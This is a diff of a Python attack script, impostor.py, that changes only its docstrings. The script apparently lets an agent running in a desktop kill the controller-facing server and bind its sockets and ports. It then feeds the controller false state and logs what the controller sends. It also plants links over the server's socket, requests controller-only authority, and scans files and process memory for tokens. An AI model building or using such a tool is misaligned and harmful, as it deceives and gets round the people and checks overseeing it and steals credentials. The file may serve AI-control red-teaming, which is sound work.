@@ -1,8 +1,8 @@
-"""Runs in a desktop, as the agent: takes the place of the server, and answers the controller.
+"""Runs in a desktop as the agent: takes the server's place and answers the controller.
 
-`impostor.py take [--kill]` ends the server if it is told so, binds every address that the server listened at, and answers
-each request with what the agent would like the controller to believe; what it was sent stays in /tmp/attack-heard.
-`impostor.py link TARGET` lays links to a path of the host's over the server's socket. `impostor.py ask AUTHORIZATION`
+`impostor.py take [--kill]` kills the server if asked to, binds every address that the server listened on, and answers
+each request with what the agent wants the controller to believe; it stores the requests in /tmp/attack-heard.
+`impostor.py link TARGET` puts links to a path of the host over the server's socket. `impostor.py ask AUTHORIZATION`
 asks the server for control. `impostor.py tokens` looks for the tokens. Prints a line of JSON. Standard library only.
 """
 
@@ -34,7 +34,7 @@ def servers():
 
 
 def paths():
-    """Unix sockets that somebody listens at, by path; not those of the session's own programs."""
+    """Paths of listening Unix sockets, except those of the session's own programs."""
     with open("/proc/net/unix", encoding="utf-8") as file:
         lines = [line.split() for line in file.read().splitlines()[1:]]
     named = {line[7] for line in lines if len(line) > 7 and line[7].startswith("/") and int(line[3], 16) & 0x10000}
@@ -52,7 +52,7 @@ def everything():
 
 
 def ports():
-    """TCP ports that somebody listens at."""
+    """Listening TCP ports."""
     found: set[int] = set()
     for name in ("tcp", "tcp6"):
         with open(f"/proc/net/{name}", encoding="ascii") as file:
@@ -65,7 +65,7 @@ def ports():
 
 
 def answer(connection):
-    """To whatever is asked: the state that the agent would like to have reached."""
+    """Answer any request with the state that the agent wants to have reached."""
     with connection, connection.makefile("rwb") as stream:
         while True:
             head = b""
@@ -90,14 +90,14 @@ def answer(connection):
 
 
 def serve(listener):
-    """Answer everybody."""
+    """Answer every connection."""
     while True:
         connection, _ = listener.accept()
         threading.Thread(target=answer, args=(connection,), daemon=True).start()
 
 
 def take(*options):
-    """Bind the server's addresses, and go on in the background."""
+    """Bind the server's addresses, and continue in the background."""
     unix, tcp, said = paths(), ports(), []
     if "--kill" in options:
         for pid in servers():
@@ -143,7 +143,7 @@ def take(*options):
 
 
 def link(target):
-    """Lay links over the server's socket."""
+    """Put links over the server's socket."""
     said = []
     for path in paths():
         try:
@@ -156,7 +156,7 @@ def link(target):
 
 
 def ask(authorization):
-    """Ask the server for what only the controller may have, wherever it listens."""
+    """Request something that only the controller may have, wherever the server listens."""
     said = []
     for place in [*paths(), *ports()]:
         try:
@@ -199,7 +199,7 @@ def tokens(*pieces):
 
 
 def look(path, pieces):
-    """A file, if it is one that ends."""
+    """Search a file, unless it is endless or large."""
     try:
         if not path.startswith("/proc/") and (not os.path.isfile(path) or os.path.getsize(path) > 1 << 24):
             return []
@@ -211,7 +211,7 @@ def look(path, pieces):
 
 
 def memory(pid, pieces):
-    """What can be written of a process's memory."""
+    """Search the writable memory of a process."""
     try:
         with open(f"/proc/{pid}/maps", encoding="utf-8") as maps, open(f"/proc/{pid}/mem", "rb") as mem:
             for line in maps:
